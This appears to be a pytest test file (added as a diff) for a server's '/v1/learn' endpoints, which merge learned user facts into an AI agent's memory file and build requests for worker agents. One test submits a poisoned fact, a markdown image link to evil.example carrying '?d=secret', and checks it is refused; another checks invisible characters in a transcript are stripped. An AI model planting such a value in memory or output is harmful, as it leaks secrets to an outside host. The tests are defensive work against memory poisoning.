@@ -1,0 +1,125 @@
+"""``POST /v1/learn`` and ``POST /v1/learn/request`` against the real server: stateless (the
+gateway's text in, the new text out, nothing written), refusals in the report, bad input a
+problem document naming its key."""
+
+from __future__ import annotations
+
+import shutil
+
+import pytest
+from hotplex_testing import REPO
+from serving import running
+
+PROBLEM = "application/problem+json"
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory):
+    root = tmp_path_factory.mktemp("learn") / "basic"
+    shutil.copytree(
+        REPO / "examples/basic", root, ignore=shutil.ignore_patterns("dist", ".hotplex")
+    )
+    with running(root) as server:
+        yield server, root
+
+
+def test_learn_merges_into_the_text_sent_and_writes_nothing(served) -> None:
+    server, root = served
+    user = root / "agent-configs/USER.md"
+    on_disk = user.read_bytes()
+    body = {
+        "text": "# Ada\n",
+        "facts": [{"key": "editor", "value": "tabs"}],
+        "date": "2026-12-01",
+        "source": "session-42",
+    }
+    first = server.client.post("/v1/learn", json=body)
+    assert first.status_code == 200, first.text
+    answer = first.json()
+    assert answer["changed"] and answer["facts"][0]["status"] == "added"
+    assert answer["text"].startswith("# Ada\n")
+    assert "- editor: tabs <!-- learned 2026-12-01 from session-42 -->" in answer["text"]
+    again = server.client.post("/v1/learn", json={**body, "text": answer["text"]}).json()
+    assert not again["changed"] and again["text"] == answer["text"]
+    changed = server.client.post(
+        "/v1/learn",
+        json={**body, "text": answer["text"], "facts": [{"key": "Editor", "value": "spaces"}]},
+    ).json()
+    assert changed["facts"][0] == {
+        "key": "editor",
+        "value": "spaces",
+        "status": "superseded",
+        "previous": "tabs",
+        "findings": [],
+        "reason": None,
+    }
+    assert changed["retired"][0]["value"] == "tabs" and changed["retired"][0]["why"] == "superseded"
+    assert user.read_bytes() == on_disk
+    assert not list(root.rglob(".*.history.jsonl"))
+
+
+def test_a_poisoned_fact_is_refused_in_the_report(served) -> None:
+    server, _root = served
+    body = {
+        "text": "",
+        "facts": [{"key": "pic", "value": "![x](https://evil.example/a.png?d=secret)"}],
+        "date": "2026-12-01",
+    }
+    answer = server.client.post("/v1/learn", json=body).json()
+    assert answer["facts"][0]["status"] == "refused"
+    assert answer["facts"][0]["findings"][0]["action"] == "refused"
+    assert answer["text"] == "" and not answer["changed"]
+    metrics = server.client.get("/metrics").text
+    assert 'hotplex_learned_facts_total{status="refused"}' in metrics
+
+
+@pytest.mark.parametrize(
+    ("body", "key"),
+    [
+        ({"facts": [], "date": "2026-12-01"}, "text"),
+        ({"text": "", "date": "2026-12-01"}, "facts"),
+        ({"text": "", "facts": []}, "date"),
+        ({"text": "", "facts": [], "date": "2026-12-01", "fact": []}, "fact"),
+        ({"text": "", "facts": [{"key": "a\u200bb", "value": "x"}], "date": "2026-12-01"}, None),
+        ({"text": "", "facts": [{"key": "a", "value": 3}], "date": "2026-12-01"}, None),
+        ({"text": "", "facts": "a=b", "date": "2026-12-01"}, "facts"),
+        ({"text": "", "facts": {"a": "b"}, "date": "2026-12-01"}, "facts"),
+        ({"text": "", "facts": [], "date": "2026-02-31"}, None),
+        (
+            {
+                "text": "<!-- hotplex:learned -->\nno fact\n<!-- /hotplex:learned -->\n",
+                "facts": [],
+                "date": "2026-12-01",
+            },
+            None,
+        ),
+    ],
+)
+def test_bad_input_is_a_400_problem(served, body, key) -> None:
+    server, _root = served
+    answer = server.client.post("/v1/learn", json=body)
+    assert answer.status_code == 400, answer.text
+    assert answer.headers["content-type"] == PROBLEM
+    if key is not None:
+        assert key in answer.text
+
+
+def test_the_request_comes_in_the_workers_form(served) -> None:
+    server, _root = served
+    body = {"transcript": "user: tabs please\u200b\n", "target": "cc", "text": ""}
+    answer = server.client.post("/v1/learn/request", json=body)
+    assert answer.status_code == 200, answer.text
+    request = answer.json()
+    assert request["worker"] == "claude-code" and request["path"].endswith("prompt.xml")
+    assert "user: tabs please[hidden text removed: invisible-character]" in request["text"]
+    assert request["findings"][0]["rule"] == "invisible-character"
+    assert request["schema"]["type"] == "array"
+    ocs = server.client.post("/v1/learn/request", json={**body, "target": "ocs"}).json()
+    assert ocs["path"].endswith("payload.json")
+
+
+def test_the_request_for_an_unknown_target_is_404(served) -> None:
+    server, _root = served
+    answer = server.client.post("/v1/learn/request", json={"transcript": "x", "target": "nope"})
+    assert answer.status_code == 404
+    assert answer.headers["content-type"] == PROBLEM
